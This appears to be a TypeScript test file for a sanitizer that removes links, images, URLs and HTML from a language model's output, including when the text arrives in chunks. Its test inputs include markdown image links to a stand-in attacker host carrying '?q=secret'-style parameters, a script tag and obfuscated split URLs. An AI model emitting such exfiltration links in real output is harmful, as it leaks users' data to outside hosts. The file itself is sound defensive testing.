// What a model may not put into a page, in one piece and in many.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cleanOutput, OutputCleaner } from "./output-cleaner.ts";

describe("cleaning a model's text", () => {
  it.each([
    ["Look ![x](https://evil.example/?q=secret) here", "Look x here"],
    ["![](https://evil.example/a.png)", ""],
    ["![a][1]\n\n[1]: https://evil.example/x", "a\n\n"],
    ["[click me](https://evil.example)", "click me"],
    ["[click](<https://evil.example>)", "click"],
    ['[a](https://e.example "title (x)") b', "a b"],
    ["[![x](https://e.example/i.png)](https://e.example)", "x"],
    ["![x]([LINK1])", "x"],
    ["go to https://evil.example/?d=name, now", "go to … now"],
    ["www.evil.example и HTTP://evil.example", "… и …"],
    ['<img src="https://evil.example/x"> <b>bold</b> <script>alert(1)</script>', " bold alert(1)"],
    ["a<!-- hidden --> b", "a b"],
    ["<https://evil.example>", ""],
    ["htt<b>ps://evil.example", "htt ps://evil.example"],
    ["htt[p://evil.example](x)", "htt p://evil.example"],
    [
      "[htt](x)p://evil.example and http[](x)://evil.example",
      "htt p://evil.example and http ://evil.example",
    ],
    ["www<i></i>.evil.example", "www .evil.example"],
    ["[x]<b>(//evil.example)", "[x] (//evil.example)"],
    ["<<b>b>", "< b>"],
    ["(see [this](https://evil.example)).", "(see this)."],
    ["Вот [это](https://evil.example), и [то](https://evil.example).", "Вот это, и то."],
    ["словоhttps://evil.example", "слово…"],
    ["{gap:film}, а ты?", "…, а ты?"],
    ["да { GAP : x }", "да …"],
    ["{gap{gap:a}:b}", "{gap…:b}"],
  ])("[MF1] takes out: %s", (text, expected) => {
    expect(cleanOutput(text)).toBe(expected);
  });

  it.each([
    "Люблю <3 и 2 < 5, а 7 > 6",
    "[N1], привет! [N1.dat] [да]",
    "Ого! Правда?",
    "http и www без точки, awww. да",
    "{скобки} и {gapless} и {g",
    "*важно* и _мягко_",
    "вот (скобки) и [квадратные] (рядом)",
    "wow, хм, for sure! fff",
    "Line one\n\n- a\n- b",
    "",
  ])("[MF1] leaves: %s", (text) => {
    expect(cleanOutput(text)).toBe(text);
  });

  it("[MF1] leaves what only begins like something", () => {
    expect(cleanOutput("a [b")).toBe("a [b");
    expect(cleanOutput("ok <b and no end")).toBe("ok <b and no end");
    expect(cleanOutput("так! [")).toBe("так! [");
    expect(cleanOutput("![a](https://evil.example/?q=1")).toBe("![a](…");
  });

  it("[MF1] gives the same wherever the text is cut", () => {
    const piece = fc.constantFrom(
      "![a]",
      "[b](",
      "https://e.example/x",
      ")",
      "<b>",
      "<",
      ">",
      "<3",
      " ",
      "\n",
      "www.",
      "htt",
      "p://",
      "[N1]",
      "[",
      "]",
      "!",
      "слово",
      "(",
      "[1]: ",
      "<!--",
      "-->",
      ".",
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 14 }),
        fc.array(fc.nat({ max: 6 }), { maxLength: 30 }),
        (pieces, cuts) => {
          const text = pieces.join("");
          const cleaner = new OutputCleaner();
          let shown = "";
          let place = 0;
          for (const cut of cuts) {
            shown += cleaner.push(text.slice(place, place + cut));
            place += cut;
          }
          shown += cleaner.push(text.slice(place)) + cleaner.end();
          expect(shown).toBe(cleanOutput(text));
          expect(shown).not.toMatch(/https?:\/\/|(?<![\p{L}\p{N}])www\.|<b>/u);
        },
      ),
      { numRuns: 1_000 },
    );
  });

  it("[MF1] takes a long hostile text in its stride", () => {
    for (const text of [
      "[".repeat(20_000),
      "![".repeat(10_000),
      "<a".repeat(10_000),
      "[a](".repeat(5_000),
      "h".repeat(20_000),
    ])
      expect(cleanOutput(text)).toHaveLength(text.length);
  });
});
